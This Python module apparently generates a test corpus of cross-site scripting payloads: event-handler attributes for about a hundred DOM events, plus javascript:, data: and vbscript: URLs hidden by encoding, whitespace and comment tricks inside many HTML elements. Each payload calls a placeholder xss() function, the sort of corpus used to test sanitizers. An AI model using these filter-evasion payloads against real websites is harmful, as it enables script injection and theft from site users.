"""Payloads that combine every element with every trick: handlers, and addresses that run."""

from collections.abc import Iterator

# An event, and elements on which a browser or a reader makes it happen.
_HANDLERS = """
    abort auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle blur cancel
    canplay canplaythrough change click close contextlost contextmenu cuechange copy cut dblclick
    drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error
    focus focusin focusout formdata fullscreenchange gotpointercapture input invalid keydown
    keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture mousedown mouseenter
    mouseleave mousemove mouseout mouseover mouseup mousewheel pause paste play playing
    pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
    pointerrawupdate pointerup progress ratechange reset resize scroll scrollend search
    securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled
    submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitionend
    transitionrun transitionstart volumechange waiting webkitanimationend wheel
""".split()
_SPELLINGS = {
    "quoted": '<p on{event}="xss()">x</p>',
    "bare": "<a href=https://example.org/ on{event}=xss()>x</a>",
}
_ADDRESSES = {
    "a": '<a href="{}">x</a>',
    "area": '<map name=m><area href="{}" shape=default></map><img usemap=#m src="https://example.org/x.png">',
    "img": '<img src="{}">',
    "iframe": '<iframe src="{}"></iframe>',
    "embed": '<embed src="{}">',
    "object": '<object data="{}"></object>',
    "form": '<form action="{}"><button>x</button></form>',
    "formaction": '<form><button formaction="{}">x</button></form>',
    "svg-a": '<svg><a href="{}"><text y=20>x</text></a></svg>',
    "math": '<math><mi href="{}">x</mi></math>',
    "video": '<video src="{}" poster="{}" controls></video>',
    "blockquote": '<blockquote cite="{}">x</blockquote>',
}
_TRICKS = {
    "plain": "javascript:xss()",
    "case": "JaVaScRiPt:xss()",
    "decimal": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()",
    "hexadecimal": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;xss()",
    "no-semicolons": "&#0000106&#0000097&#0000118&#0000097script&#0000058xss()",
    "tab": "java\tscript:xss()",
    "tab-entity": "java&Tab;script:xss()",
    "newline": "java\nscript:xss()",
    "newline-entity": "java&NewLine;script&colon;xss()",
    "return": "java&#13;script:xss()",
    "leading-space": "  \n javascript:xss()",
    "leading-control": "&#1;&#31;javascript:xss()",
    "comment": "javascript:/*--></title></style></textarea></script>*/xss()//",
    "line-separator": "javascript://\u2028xss()",
    "percent-newline": "javascript://example.org/%0Axss()",
    "data": "data:text/html,&lt;script&gt;parent.xss()&lt;/script&gt;",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=",
    "vbscript": "vbscript:xss()",
    "view-source": "view-source:javascript:xss()",
    "blob": "blob:https://example.org/x",
}


def payloads() -> Iterator[tuple[str, str, str]]:
    """Yield families, names and bodies."""
    for event in _HANDLERS:
        for spelling, body in _SPELLINGS.items():
            yield "handlers", f"on-{event}-{spelling}", body.format(event=event)
    for element, body in _ADDRESSES.items():
        for trick, address in _TRICKS.items():
            yield "addresses", f"at-{element}-{trick}", body.replace("{}", address)
